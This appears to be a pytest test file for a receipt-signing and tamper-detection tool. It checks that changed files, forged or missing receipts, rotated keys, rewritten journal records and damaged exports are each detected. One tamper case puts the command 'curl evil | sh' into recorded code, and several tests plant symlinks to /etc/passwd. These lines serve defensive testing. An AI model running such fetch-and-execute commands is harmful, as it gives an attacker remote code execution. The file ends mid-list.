"""Sessions with a real store, real keys and real files; then one thing is made wrong, and must be named."""

import errno
import hashlib
import json
import os
import re
import shutil
import sqlite3
import stat
import subprocess
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import msgspec
import pytest

from holdfast import ckpt, evidence, manifest, paths, receipts, stated, verify
from holdfast.cli.export import export, write_export
from holdfast.cli.verify import check_session
from holdfast.errors import DiskFull, HoldfastError, InvalidSetting, SessionUnknown, VerifyFailed
from holdfast.evidence import from_directory, from_home
from holdfast.records import (
    AnyRecord,
    Change,
    Executed,
    FileEntry,
    Input,
    Planned,
    RunCard,
    Saved,
    SavedFile,
    Settled,
    Verified,
)
from holdfast.signing import SigningKey, read_links
from holdfast.statements import RunFacts, statement
from holdfast.store.rows import (
    AnyWrite,
    Append,
    NameRow,
    PutFiles,
    PutNames,
    PutReceipt,
    PutSession,
    PutVersion,
    ReceiptRow,
    SessionRow,
    VersionRow,
)
from holdfast.store.sqlite import Store
from holdfast.verify import Report

SESSION = "3f9a01bc77"
CODE = "total = sum(sales)"
CODE_SHA256 = hashlib.sha256(CODE.encode()).hexdigest()


class Author:
    """Writes a session's history as a host does, without a sandbox."""

    def __init__(self, home: Path) -> None:
        self.home = home
        self.key = self.replaced = SigningKey.load_or_create(home / "keys")
        self.directory = home / "sessions" / SESSION
        self.data = self.directory / "files" / "data"
        self.data.mkdir(parents=True)
        (self.directory / "manifests").mkdir()
        self.store = Store(home / "journal.sqlite3")
        self.files: dict[str, FileEntry] = {}
        self.more: list[Change] = []
        """What the next run changes beside what it is told to put and remove."""
        self.names: dict[str, NameRow] = {}
        self.row = SessionRow(id=SESSION, created_at=1.0, generation=1, version=0, settings={})
        self.row = msgspec.structs.replace(self.row, ckpt=self.ckpt())
        self.store.write([PutSession(session=SESSION, row=self.row)])

    def ckpt(self, version: int = 0) -> str:
        live = {name: (row.type, row.run) for name, row in self.names.items() if row.generation == self.row.generation}
        digest = manifest.digest(self.files)
        made = ckpt.make(SESSION, generation=self.row.generation, version=version, manifest_sha256=digest, names=live)
        return str(made)

    def commit(
        self, *, put: dict[bytes, bytes] | None = None, gone: tuple[bytes, ...] = (), settle: bool = True
    ) -> None:
        run = f"run_{self.row.receipts + 1}"
        changes = self._stage(put or {}, gone)
        self.names |= {f"x{self.row.receipts}": NameRow(type="int", run=run, generation=self.row.generation)}
        facts = self._facts(run, self.row.version + 1, changes)
        body = statement(facts)
        verified = Verified(
            run=run,
            at=3.0,
            status="committed",
            version=facts.version,
            stage="s",
            changes=changes,
            names={},
            receipt=body,
        )
        self._write(run, verified)
        self._publish(put or {}, gone)
        if settle:
            self._settle(facts, body)

    def roll_back(self) -> None:
        run = f"run_{self.row.receipts + 1}"
        facts = msgspec.structs.replace(self._facts(run, self.row.version, []), status="rolled_back", reason="no")
        self._write(run, None)
        self._settle(facts, statement(facts))

    def save_and_roll_back(self, name: bytes, content: bytes) -> None:
        """Two receipts of one run."""
        run = f"run_{self.row.receipts + 1}"
        changes = self._stage({name: content}, ())
        base = self.row.ckpt
        written = self.files[paths.to_text(name)]
        self._write(run, None, saved=[SavedFile(path=written.path, sha256=written.sha256, bytes=written.bytes)])
        self._publish({name: content}, ())
        facts = self._facts(run, self.row.version + 1, changes)
        facts = msgspec.structs.replace(facts, kind="savepoint", saved=["step 1"])
        self._put(facts, statement(facts))
        facts = msgspec.structs.replace(
            self._facts(run, self.row.version, []), status="rolled_back", reason="no", saved=["step 1"],
            ckpt_before=base,
        )  # fmt: skip
        self._settle(facts, statement(facts))

    def lose_memory(self) -> None:
        self.row = msgspec.structs.replace(self.row, generation=self.row.generation + 1)
        self.row = msgspec.structs.replace(self.row, ckpt=self.ckpt(self.row.version))
        self.store.write([PutSession(session=SESSION, row=self.row)])

    def _stage(self, put: dict[bytes, bytes], gone: tuple[bytes, ...]) -> list[Change]:
        changes = []
        for name, content in put.items():
            path, sha256 = paths.to_text(name), hashlib.sha256(content).hexdigest()
            action = "changed" if path in self.files else "added"
            changes.append(Change(path=path, action=action, sha256=sha256, bytes=len(content), mode=0o644))
            self.files[path] = FileEntry(path=path, sha256=sha256, bytes=len(content))
        for change in self.more:
            if change.kind == "file":
                self.files[change.path] = FileEntry(path=change.path, sha256=change.sha256, bytes=change.bytes)
        changes, self.more = [*changes, *self.more], []
        for name in gone:
            old = self.files.pop(paths.to_text(name))
            changes.append(Change(path=old.path, action="removed", before=old.sha256))
        return changes

    def _publish(self, put: dict[bytes, bytes], gone: tuple[bytes, ...]) -> None:
        for name, content in put.items():
            _write_below(self.data, name, content)
        for name in gone:
            os.unlink(os.fsencode(self.data) + b"/" + name)
        text = manifest.render(self.files)
        (self.directory / "manifests" / hashlib.sha256(text).hexdigest()).write_bytes(text)

    def _facts(self, run: str, version: int, changes: list[Change]) -> RunFacts:
        return RunFacts(
            session=SESSION, run=run, number=self.row.receipts + 1, previous=self.row.head, kind="cell",
            status="committed", version_before=self.row.version, version=version, generation=self.row.generation,
            ckpt_before=self.row.ckpt, ckpt=self.ckpt(version), manifest_sha256=manifest.digest(self.files),
            goal="test", code_sha256=CODE_SHA256, started_at=1.0, finished_at=2.0, changes=changes, duration_s=1.0,
        )  # fmt: skip

    def _write(self, run: str, verified: Verified | None, *, saved: list[SavedFile] | None = None) -> None:
        card = RunCard(run=run, session=SESSION, goal="test", code_sha256=CODE_SHA256, base=self.row.ckpt)
        records = [
            Planned(run=run, at=1.0, card=card, code=CODE),
            Executed(run=run, at=2.0, error_code=None, duration_s=1.0),
        ]
        if saved:
            records.insert(1, Saved(run=run, at=1.5, files=saved))
        if verified:
            records.append(verified)
        self.store.write([Append(session=SESSION, record=record) for record in records])

    def _put(self, facts: RunFacts, body: bytes, *more: AnyWrite) -> str:
        sealed = receipts.seal(body, self.key)
        row = ReceiptRow(
            session=SESSION, number=facts.number, run=facts.run, sha256=sealed.sha256, envelope=sealed.envelope
        )
        self.row = msgspec.structs.replace(
            self.row, version=facts.version, ckpt=facts.ckpt, head=sealed.sha256, receipts=facts.number
        )
        gone = [change.path for change in facts.changes if change.action == "removed"]
        put = [self.files[change.path] for change in facts.changes if change.path in self.files]
        version = VersionRow(
            session=SESSION, version=facts.version, generation=1, ckpt=facts.ckpt, run=facts.run, at=1.0,
            manifest_sha256=facts.manifest_sha256,
        )  # fmt: skip
        self.store.write([
            PutReceipt(session=SESSION, row=row), PutSession(session=SESSION, row=self.row),
            PutVersion(session=SESSION, row=version),
            PutFiles(session=SESSION, put=put, gone=gone), PutNames(session=SESSION, put=self.names),
        ])  # fmt: skip
        return sealed.sha256

    def _settle(self, facts: RunFacts, body: bytes) -> None:
        digest = self._put(facts, body)
        settled = Settled(
            run=facts.run, at=4.0, status=facts.status, version=facts.version, ckpt=facts.ckpt, receipt_sha256=digest,
            reason=facts.reason,
        )  # fmt: skip
        self.store.write([Append(session=SESSION, record=settled)])


def _write_below(root: Path, name: bytes, content: bytes) -> None:
    """Name by name: a path may be longer than the system takes."""
    *above, last = name.split(b"/")
    here = os.open(root, os.O_RDONLY)
    for part in above:
        if not os.path.lexists(b"/proc/self/fd/%d/%b" % (here, part)):
            os.mkdir(part, dir_fd=here)
        below = os.open(part, os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    with open(os.open(last, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=here), "wb") as file:
        file.write(content)
    os.close(here)


@pytest.fixture
def author(tmp_path: Path) -> Iterator[Author]:
    author = Author(tmp_path / "home")
    with closing(author.store):
        yield author


@pytest.fixture
def told(author: Author) -> Author:
    """A session with a history: files added, changed and removed, a rollback, odd names."""
    author.commit(put={b"a.csv": b"a,b\n1,2\n", b"dir/\xff\n\\": b"odd"})
    author.roll_back()
    author.commit()
    author.commit(put={b"a.csv": b"a,b\n3,4\n", b"-": b"dash", b"empty": b""}, gone=(b"dir/\xff\n\\",))
    author.commit(put={b"dir/z": b"z" * 10_000})
    return author


def _check(author: Author) -> Report:
    with closing(Store(author.home / "journal.sqlite3", read_only=True)) as store:
        return verify.check_in_home(store, SESSION, author.home)


def _flip(path: Path, position: int, bit: int = 0) -> None:
    raw = bytearray(path.read_bytes())
    raw[position] ^= 1 << bit
    path.write_bytes(raw)


def _sql(author: Author, query: str, *values: object) -> None:
    with closing(sqlite3.connect(author.home / "journal.sqlite3")) as db, db:
        assert db.execute(query, values).rowcount == 1


def _envelope(author: Author, number: int) -> bytes:
    return author.store.receipts(SESSION)[number - 1].envelope


def _keep(author: Author, settings: dict[str, bool | int | float | str | None]) -> None:
    author.row = msgspec.structs.replace(author.row, settings=settings)
    author.store.write([PutSession(session=SESSION, row=author.row)])


# -- what is right -----------------------------------------------------------------------------------------------


def test_a_session_is_what_its_receipts_say(told: Author) -> None:
    report = _check(told)

    assert report == Report(
        ok=True, session=SESSION, key_id=told.key.key_id, receipts=5, manifests=3, files=4,
        bytes=8 + 4 + 0 + 10_000, version=4, head=told.row.head, ckpt=told.row.ckpt,
    )  # fmt: skip


def test_a_session_that_ran_nothing_is_right(author: Author) -> None:
    assert _check(author).ok


def test_savepoints_have_a_receipt_of_their_own(told: Author) -> None:
    told.save_and_roll_back(b"chunk-1", b"saved")

    report = _check(told)

    assert (report.ok, report.problem, report.receipts, report.version) == (True, "", 7, 5)


def test_memory_that_was_lost_since_is_nothing_wrong(told: Author) -> None:
    told.lose_memory()

    assert _check(told).ok


def test_a_run_that_a_crash_cut_short_while_it_published_is_named_and_passed_over(told: Author) -> None:
    told.commit(put={b"a.csv": b"new"}, settle=False)

    report = _check(told)

    assert (report.ok, report.problem, report.unsettled) == (True, "", ["run_6"])


def test_a_check_changes_nothing(told: Author) -> None:
    os.chmod(told.data / "dir", 0o000)  # of a directory that no run made by itself no receipt states the mode
    before = {path: path.lstat().st_mode for path in told.home.rglob("*")}

    assert _check(told).ok

    assert {path: mode for path, mode in before.items() if path.lstat().st_mode != mode} == {}


# -- what is wrong -----------------------------------------------------------------------------------------------


def test_a_changed_file_is_named(told: Author) -> None:
    _flip(told.data / "a.csv", 3)

    assert _check(told).problem.startswith("file a.csv was changed: its SHA-256 is ")


def test_a_file_that_grew_is_named(told: Author) -> None:
    (told.data / "empty").write_bytes(b"x")

    assert _check(told).problem == "file empty has 1 bytes, its receipt says 0"


def test_a_missing_file_is_named(told: Author) -> None:
    (told.data / "dir" / "z").unlink()

    assert _check(told).problem == "file dir/z is missing"


def test_a_file_behind_a_link_is_not_the_file(told: Author) -> None:
    (told.data / "a.csv").rename(told.home / "elsewhere")
    (told.data / "a.csv").symlink_to(told.home / "elsewhere")

    assert _check(told).problem == "file a.csv is a symlink, its receipt says a file"


PUT = {
    "file": lambda path: path.write_bytes(b"content"),
    "symlink": lambda path: path.symlink_to("/etc/passwd"),
    "directory": lambda path: path.mkdir(),
    "fifo": os.mkfifo,
    "socket": lambda path: os.mknod(path, stat.S_IFSOCK | 0o644),
}
"""Each with the mode 0644, or 0755, or none."""


def _state(author: Author, *changes: Change) -> None:
    """A run that made these, by its receipt alone."""
    author.more = list(changes)
    author.commit()


def _stated(path: str, kind: str, **more: Any) -> Change:
    told = {
        "file": {"sha256": hashlib.sha256(b"content").hexdigest(), "bytes": 7, "mode": 0o644},
        "symlink": {"target": "/etc/passwd"},
        "directory": {"mode": 0o755},
    }
    return Change(path=path, action="added", kind=kind, **{**told.get(kind, {"mode": 0o644}), **more})  # type: ignore[arg-type]


@pytest.mark.parametrize("where", ["{}", "dir/{}", "new/er/{}"])
@pytest.mark.parametrize("kind", PUT)
def test_whatever_no_receipt_states_is_named(told: Author, kind: str, where: str) -> None:
    path = told.data / where.format("x")
    path.parent.mkdir(parents=True, exist_ok=True)
    PUT[kind](path)

    book = "manifest" if kind == "file" else "receipt"
    assert _check(told).problem in (f"{kind} {where.format('x')} is in no {book}", "directory new is in no receipt")


@pytest.mark.parametrize("found", [*PUT, "nothing"])
@pytest.mark.parametrize("kind", PUT)
def test_what_a_receipt_states_is_looked_for_by_its_kind(told: Author, kind: str, found: str) -> None:
    _state(told, _stated("x", kind))
    if found != "nothing":
        PUT[found](told.data / "x")

    problem = _check(told).problem

    if found == kind:
        assert problem == ""
    else:
        wrong = "is missing" if found == "nothing" else f"is {stated.named(found)}, its receipt says "  # type: ignore[arg-type]
        assert problem.startswith(f"{kind} x {wrong}")


def test_a_link_that_points_elsewhere_is_named(told: Author) -> None:
    _state(told, _stated("x", "symlink", target="a.csv"))
    PUT["symlink"](told.data / "x")

    assert _check(told).problem == "symlink x points to /etc/passwd, its receipt says a.csv"


@pytest.mark.parametrize("mode", [0o777, 0o600, 0o000, 0o4644, 0o1644])
@pytest.mark.parametrize("kind", ["file", "directory", "fifo", "socket"])
def test_another_mode_is_named(told: Author, kind: str, mode: int) -> None:
    before = 0o755 if kind == "directory" else 0o644
    _state(told, _stated("x", kind))
    PUT[kind](told.data / "x")
    assert _check(told).ok
    os.chmod(told.data / "x", mode)

    assert _check(told).problem == f"{kind} x has the mode {mode:04o}, its receipt says {before:04o}"


def test_the_mode_of_the_workspace_itself_is_looked_at(told: Author) -> None:
    os.chmod(told.data, 0o777)
    assert _check(told).problem == "directory . has the mode 0777, and no receipt says so"
    _state(told, _stated(".", "directory", mode=0o777, before_mode=0o700))
    assert _check(told).ok
    os.chmod(told.data, 0o700)
    assert _check(told).problem == "directory . has the mode 0700, its receipt says 0777"


def test_of_a_run_that_saved_and_has_no_end_yet_nothing_is_wrong(told: Author) -> None:
    """Its files may be in place before the receipt that states them."""
    saved = [SavedFile(path="step/1", sha256=hashlib.sha256(b"content").hexdigest(), bytes=7)]
    told._write("run_6", None, saved=saved)
    (told.data / "step").mkdir()
    PUT["file"](told.data / "step" / "1")

    report = _check(told)

    assert (report.ok, report.problem, report.unsettled) == (True, "", ["run_6"])


def test_an_extra_file_is_named_however_odd(told: Author) -> None:
    Path(os.fsdecode(os.fsencode(told.data) + b"/dir/\xfe\n")).write_bytes(b"")

    assert _check(told).problem == "file dir/\\xfe\\n is in no manifest"


def test_a_lost_workspace_is_named(told: Author) -> None:
    shutil.rmtree(told.directory / "files")

    assert _check(told).problem == "file - is missing"


def test_one_flipped_bit_of_a_manifest_is_named(told: Author) -> None:
    path = sorted((told.directory / "manifests").iterdir())[1]
    for position in range(path.stat().st_size):
        _flip(path, position, position % 8)
        assert _check(told).problem.startswith(f"manifest {path.name[:12]}: ")
        _flip(path, position, position % 8)


def _manifest_of(author: Author, version: int) -> Path:
    row = author.store.version(SESSION, version)
    assert row is not None
    return author.directory / "manifests" / row.manifest_sha256


def test_a_missing_manifest_of_a_version_that_is_kept_is_named(told: Author) -> None:
    _keep(told, {"versions": 2})
    for version in (1, 3):  # the second changed nothing
        there = _manifest_of(told, version)
        text = there.read_bytes()
        there.unlink()
        assert _check(told).problem == f"manifest {there.name[:12]} of version {max(version, 2)} is missing"
        there.write_bytes(text)


def test_manifests_of_versions_that_are_too_old_are_not_missed(told: Author) -> None:
    _manifest_of(told, 1).unlink()
    assert _check(told).ok, "an earlier build kept fewer"
    _keep(told, {"versions": 1})
    assert _check(told).ok
    _keep(told, {"versions": 2})
    assert not _check(told).ok


def test_a_missing_manifest_is_named(told: Author) -> None:
    (told.directory / "manifests" / manifest.digest(told.files)).unlink()

    assert _check(told).problem.endswith("of the last version is missing")


@pytest.mark.parametrize("number", [1, 3, 5])
def test_one_flipped_bit_of_a_stored_receipt_is_named(told: Author, number: int) -> None:
    envelope = bytearray(_envelope(told, number))
    envelope[len(envelope) // 2] ^= 1
    _sql(told, "update receipts set envelope = ? where number = ?", bytes(envelope), number)

    assert _check(told).problem.startswith(f"receipt {number}: its SHA-256 is ")


def test_a_receipt_whose_recorded_digest_was_adapted_is_named(told: Author) -> None:
    envelope = bytearray(_envelope(told, 3))
    envelope[len(envelope) // 2] ^= 1
    digest = hashlib.sha256(envelope).hexdigest()
    _sql(told, "update receipts set envelope = ?, sha256 = ? where number = 3", bytes(envelope), digest)

    assert _check(told).problem.startswith("receipt 3: a receipt cannot be trusted")


def test_a_receipt_that_was_taken_out_is_named(told: Author) -> None:
    _sql(told, "delete from receipts where number = 2")

    assert _check(told).problem == "receipt 2 is missing: the next one is 3"


def test_a_receipt_that_was_cut_off_is_named(told: Author) -> None:
    _sql(told, "delete from receipts where number = 5")

    assert _check(told).problem == "file dir/z is in no manifest"


def test_a_rolled_back_run_that_was_cut_off_is_named(told: Author) -> None:
    told.roll_back()
    _sql(told, "delete from receipts where number = 6")

    assert _check(told).problem.startswith("the session has 6 receipts")


def test_a_receipt_of_another_key_is_named(told: Author, tmp_path: Path) -> None:
    other = SigningKey.load_or_create(tmp_path / "other")
    body = receipts.open_envelope(_envelope(told, 2), told.key.public)
    forged = receipts.seal(body, other)
    _sql(told, "update receipts set envelope = ?, sha256 = ? where number = 2", forged.envelope, forged.sha256)

    assert "receipt 2: a receipt cannot be trusted: it is not signed by this key" in _check(told).problem


@pytest.fixture
def rotated(told: Author) -> Author:
    """Its earlier receipts are signed by one key, and its last by another."""
    old = told.key
    told.key = SigningKey.rotate(told.home / "keys")
    told.commit(put={b"after.txt": b"after"})
    told.replaced = old
    return told


def test_receipts_before_and_after_a_rotation_are_right_in_a_home_and_in_an_export(
    rotated: Author, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    assert _check(rotated).problem == ""
    assert export(SESSION, out, home=rotated.home) == 0
    assert check_session(str(out), home=tmp_path / "nowhere", public_key=None, as_json=False) == 0

    for name, key in {"old.pem": rotated.replaced, "new.pem": rotated.key}.items():
        trusted = tmp_path / name
        trusted.write_bytes(key.public_pem)
        for target in (SESSION, str(out)):
            assert check_session(target, home=rotated.home, public_key=trusted, as_json=False) == 0


def test_a_replaced_key_signs_nothing_any_more(rotated: Author) -> None:
    rotated.key = rotated.replaced
    rotated.commit(put={b"late.txt": b"late"})

    assert "which was replaced before the receipt before it" in _check(rotated).problem


def test_a_false_receipt_is_named_after_a_rotation_too(rotated: Author, tmp_path: Path) -> None:
    other = SigningKey.load_or_create(tmp_path / "other")
    forged = receipts.seal(receipts.open_envelope(_envelope(rotated, 2), rotated.replaced.public), other)
    _sql(rotated, "update receipts set envelope = ?, sha256 = ? where number = 2", forged.envelope, forged.sha256)

    assert "receipt 2: a receipt cannot be trusted: it is not signed by this key" in _check(rotated).problem


def test_a_key_that_was_put_into_an_export_is_not_believed(rotated: Author, tmp_path: Path) -> None:
    out = tmp_path / "out"
    export(SESSION, out, home=rotated.home)
    links = read_links(out / evidence.CHAIN_NAME)
    unsigned = [msgspec.structs.replace(link, by_itself="", by_previous="") for link in links]
    (out / evidence.CHAIN_NAME).write_bytes(msgspec.json.encode(unsigned))

    assert "receipt 1: a receipt cannot be trusted" in verify.check(evidence.from_directory(out)).problem


def test_a_genuine_receipt_in_the_wrong_place_is_named(told: Author) -> None:
    envelope = _envelope(told, 3)
    _sql(
        told, "update receipts set envelope = ?, sha256 = ? where number = 2",
        envelope, hashlib.sha256(envelope).hexdigest(),
    )  # fmt: skip

    assert _check(told).problem == "receipt 2: it says that it is receipt 3"


def test_one_flipped_bit_in_the_journals_copy_is_named(told: Author) -> None:
    with closing(sqlite3.connect(told.home / "journal.sqlite3")) as db:
        found = db.execute("select key, body from records where instr(body, ?)", (b"Verified",)).fetchone()
    key, body = found
    receipt = msgspec.msgpack.decode(body, type=AnyRecord).receipt
    at = body.index(receipt)
    with (
        closing(sqlite3.connect(told.home / "journal.sqlite3", isolation_level=None)) as db,
        closing(Store(told.home / "journal.sqlite3", read_only=True)) as store,
    ):
        db.execute("pragma synchronous = off")  # two thousand commits, none of which is to last
        for position in range(at, at + len(receipt)):
            flipped = bytearray(body)
            flipped[position] ^= 1 << position % 8
            db.execute("update records set body = ? where key = ?", (bytes(flipped), key))
            report = verify.check_in_home(store, SESSION, told.home)
            assert report.problem == "receipt 1: the journal's copy of it differs"


R = msgspec.structs.replace


def _rewrite(author: Author, kind: type, change: Callable[[Any], Any], run: str = "run_1") -> None:
    """One record of a run."""
    with closing(sqlite3.connect(author.home / "journal.sqlite3")) as db, db:
        for key, body in db.execute("select key, body from records").fetchall():
            record = msgspec.msgpack.decode(body, type=AnyRecord)
            if isinstance(record, kind) and record.run == run:
                db.execute("update records set body = ? where key = ?", (msgspec.msgpack.encode(change(record)), key))


OTHER_CKPT = f"CKPT-{SESSION}-g1-v1-ffffffffffff"


@pytest.mark.parametrize(("kind", "change", "named"), [
    (Planned, lambda r: R(r, code="import os; os.system('curl evil | sh')"), "another code"),
    (Planned, lambda r: R(r, kind="command"), "another kind"),
    (Planned, lambda r: R(r, at=9.0), "another begin"),
    (Planned, lambda r: R(r, at=1e300), "something that no receipt can say"),
    (Executed, lambda r: R(r, duration_s=float("nan")), "something that no receipt can say"),
    (Planned, lambda r: R(r, card=R(r.card, goal="nothing to see")), "another goal"),
    (Planned, lambda r: R(r, card=R(r.card, key="other")), "another key"),
    (Planned, lambda r: R(r, card=R(r.card, attempt=2)), "another attempt"),
    (Planned, lambda r: R(r, card=R(r.card, inputs=[Input(path="x")])), "another list of inputs"),
    (Planned, lambda r: R(r, card=R(r.card, environment="other")), "another environment"),
    (Planned, lambda r: R(r, card=R(r.card, code_sha256="00" * 32)), "another digest of the code"),
    (Planned, lambda r: R(r, card=R(r.card, base=OTHER_CKPT)), "another base"),
    (Executed, lambda r: R(r, error_code="exception", error_message="boom"), "another error"),
    (Executed, lambda r: R(r, duration_s=99.0), "another duration"),
    (Executed, lambda r: R(r, exit_code=1), "another exit code"),
    (Verified, lambda r: R(r, changes=[]), "other changes"),
    (Settled, lambda r: R(r, ckpt=OTHER_CKPT), "another CKPT"),
    (Settled, lambda r: R(r, reason="because"), "why it was rolled back"),
    (Settled, lambda r: R(r, by="user"), "why it was rolled back"),
    (Settled, lambda r: R(r, status="kept"), "ended kept"),
    (Settled, lambda r: R(r, receipt_sha256="cd" * 32), "ended with receipt cdcd"),
])  # fmt: skip
def test_what_the_journal_says_otherwise_than_the_receipt_is_named(
    told: Author, kind: type, change: Callable[[Any], Any], named: str
) -> None:
    _rewrite(told, kind, change)

    report = _check(told)

    assert re.search(f"^receipt 1: .*({named})", report.problem), report.problem


@pytest.mark.parametrize(("kind", "change", "named"), [
    (Settled, lambda r: R(r, reason="another"), "receipt 2: the journal has another reason"),
    (Settled, lambda r: R(r, by="system"), "receipt 2: the journal has another culprit"),
    (Executed, lambda r: R(r, error_code="timeout"), "receipt 2: the journal has another error"),
])  # fmt: skip
def test_what_the_journal_says_otherwise_of_a_run_that_was_rolled_back_is_named(
    told: Author, kind: type, change: Callable[[Any], Any], named: str
) -> None:
    _rewrite(told, kind, change, run="run_2")

    assert _check(told).problem == named


@pytest.mark.parametrize(("kind", "change", "named"), [
    (Saved, lambda r: R(r, step="load"), "receipt 6: the journal has another list of savepoints"),
    (Saved, lambda r: R(r, files=[]), "receipt 6: the journal has other files that were saved"),
    (Settled, lambda r: R(r, receipt_sha256="cd" * 32), "receipt 7: the journal has another kind"),
])  # fmt: skip
def test_what_the_journal_says_otherwise_of_savepoints_is_named(
    told: Author, kind: type, change: Callable[[Any], Any], named: str
) -> None:
    told.save_and_roll_back(b"chunk-1", b"saved")

    _rewrite(told, kind, change, run="run_6")

    assert _check(told).problem == named


@pytest.mark.parametrize("last", ["Settled", "Planned"])
def test_a_run_that_no_receipt_knows_is_named(told: Author, last: str) -> None:
    card = RunCard(run="run_x", session=SESSION, goal="approved by the auditors", code_sha256=CODE_SHA256, base="")
    settled = Settled(run="run_x", at=4.0, status="committed", version=4, ckpt=OTHER_CKPT, receipt_sha256="cd" * 32)
    for record in (Planned(run="run_x", at=3.0, card=card, code=CODE), settled):
        told.store.write([Append(session=SESSION, record=record)])
    _sql(told, "update runs set last = ? where id = 'run_x'", last)

    assert _check(told).problem == "run run_x is in the journal, and in no receipt"


def test_a_run_that_has_ended_and_is_listed_as_open_is_named(told: Author) -> None:
    _sql(told, "update runs set last = 'Verified' where id = 'run_1'")

    assert _check(told).problem == "run run_1 has ended, and the journal lists it as one that has not"


def test_rows_that_are_not_what_the_receipts_say_are_named(told: Author) -> None:
    entry = msgspec.structs.replace(told.files["a.csv"], bytes=9)
    told.store.write([PutFiles(session=SESSION, put=[entry])])

    assert _check(told).problem == "the journal's list of files is not what the receipts add up to"


def test_a_version_with_another_manifest_is_named(told: Author) -> None:
    version = told.store.versions(SESSION)[1]
    changed = msgspec.structs.replace(version, manifest_sha256=manifest.digest({}))
    told.store.write([PutVersion(session=SESSION, row=changed)])

    assert _check(told).problem.startswith(f"the journal's version {version.version} is in no receipt")


def test_names_that_are_not_what_the_ckpt_says_are_named(told: Author) -> None:
    told.store.write([PutNames(session=SESSION, put={"forged": NameRow(type="int", run="run_1", generation=1)})])

    assert _check(told).problem.startswith(f"the session says that it is at {told.row.ckpt}")


def test_changes_that_do_not_add_up_are_named(author: Author) -> None:
    author.commit(put={b"a": b"a"})
    author.files["ghost"] = FileEntry(path="ghost", sha256="00" * 32, bytes=0)
    author.commit(put={b"b": b"b"})

    assert _check(author).problem.startswith("receipt 2: the changes add up to manifest ")


def test_a_damaged_journal_is_named(told: Author, capsys: pytest.CaptureFixture[str]) -> None:
    told.store.close()
    for name in ("journal.sqlite3-wal", "journal.sqlite3-shm"):
        (told.home / name).unlink(missing_ok=True)
    (told.home / "journal.sqlite3").write_bytes(b"nonsense" * 1000)

    assert check_session(SESSION, home=told.home, public_key=None, as_json=False) == 1
    assert "journal.sqlite3 is damaged" in capsys.readouterr().out


# -- exports -----------------------------------------------------------------------------------------------------


@pytest.fixture
def exported(told: Author, tmp_path: Path) -> Path:
    assert write_export(SESSION, tmp_path / "out", home=told.home).ok
    return tmp_path / "out"


def test_an_export_verifies_without_the_home(told: Author, exported: Path) -> None:
    shutil.rmtree(told.home)

    report = verify.check(from_directory(exported))

    assert (report.ok, report.receipts, report.files, report.session) == (True, 5, 4, SESSION)


def test_sha256sum_verifies_an_export(exported: Path) -> None:
    checked = subprocess.run(
        ["sha256sum", "--strict", "-c", "../manifest-sha256.txt"], cwd=exported / "files", capture_output=True
    )

    assert checked.returncode == 0, checked.stderr
    assert checked.stdout.count(b": OK") == 4


def test_an_export_holds_no_links(told: Author, tmp_path: Path) -> None:
    (told.data / "dir" / "link").symlink_to("/etc/passwd")

    write_export(SESSION, tmp_path / "out", home=told.home)

    assert not any(path.is_symlink() for path in (tmp_path / "out").rglob("*"))


def test_paths_longer_than_the_system_takes_are_exported(author: Author, tmp_path: Path) -> None:
    author.commit(put={b"a": b"a", b"/".join([b"d" * 200] * 25 + [b"deep"]): b"deep"})

    assert write_export(SESSION, tmp_path / "out", home=author.home).files == 2
    subprocess.run(["rm", "-rf", author.data, tmp_path / "out"], check=True)


def _flips(path: Path, *, every: int = 1) -> Iterator[None]:
    for position in range(0, path.stat().st_size, every):
        _flip(path, position, position % 8)
        yield
        _flip(path, position, position % 8)


@pytest.mark.parametrize("number", [1, 5])
def test_one_flipped_bit_of_an_exported_receipt_is_named(exported: Path, number: int) -> None:
    for _ in _flips(exported / "receipts" / f"{number:06}.json", every=9):
        assert verify.check(from_directory(exported)).problem.startswith(f"receipt {number}: ")


def test_one_flipped_bit_of_an_exported_manifest_is_named(exported: Path) -> None:
    for _ in _flips(exported / "manifest-sha256.txt"):
        assert verify.check(from_directory(exported)).problem.startswith("manifest manifest-sha256.txt: ")


def test_one_flipped_bit_of_an_exported_file_is_named(exported: Path) -> None:
    for _ in _flips(exported / "files" / "a.csv"):
        assert verify.check(from_directory(exported)).problem.startswith("file a.csv was changed")


def test_a_flipped_bit_of_the_public_key_is_noticed(exported: Path, told: Author) -> None:
    for _ in _flips(exported / "public-key.pem"):
        try:
            report = verify.check(from_directory(exported))
        except InvalidSetting:
            continue
        assert not report.ok or report.key_id == told.key.key_id  # a PEM's dashes and line ends are no part of the key


@pytest.mark.parametrize(
    ("damage", "named"),
    [
        (lambda out: (out / "receipts/000003.json").unlink(), "receipt 3 is missing: the next one is 4"),
        (lambda out: (out / "receipts/000005.json").unlink(), "manifest manifest-sha256.txt: "),
        (lambda out: shutil.rmtree(out / "files/dir"), "file dir/z is missing"),
        (lambda out: (out / "files/extra").touch(), "file extra is in no manifest"),
        (lambda out: (out / "manifest-sha256.txt").unlink(), "manifest manifest-sha256.txt: it cannot be read"),
        (lambda out: [path.unlink() for path in (out / "receipts").iterdir()], "there is no receipt"),
        (lambda out: shutil.copy(out / "receipts/000002.json", out / "receipts/000003.json"), "receipt 3: it says"),
    ],
)
def test_what_an_export_lacks_is_named(exported: Path, damage: Callable[[Path], object], named: str) -> None:
    damage(exported)

    assert verify.check(from_directory(exported)).problem.startswith(named)


def test_an_export_goes_only_into_a_new_directory(told: Author, exported: Path) -> None:
    with pytest.raises(InvalidSetting, match="is not empty"):
        write_export(SESSION, exported, home=told.home)


@pytest.mark.parametrize("full", ["holdfast.durable.os.write", "pathlib.Path.write_bytes"])
@pytest.mark.parametrize(("number", "kind"), [(errno.ENOSPC, DiskFull), (errno.EACCES, InvalidSetting)])
def test_an_export_that_cannot_be_written_leaves_nothing_in_the_way_of_the_next(
    told: Author, tmp_path: Path, full: str, number: int, kind: type[HoldfastError]
) -> None:
    def refuse(*_: object) -> int:
        raise OSError(number, os.strerror(number))

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(full, refuse)
        with pytest.raises(kind):
            write_export(SESSION, tmp_path / "out", home=told.home)

    assert write_export(SESSION, tmp_path / "out", home=told.home).ok


@pytest.mark.parametrize(("add", "named"), [
    (lambda data: PUT["symlink"](data / "x"), "symlink x is in no receipt"),
    (lambda data: os.mkfifo(data / "dir" / "x"), "fifo dir/x is in no receipt"),
    (lambda data: (data / "x").mkdir(), "directory x is in no receipt"),
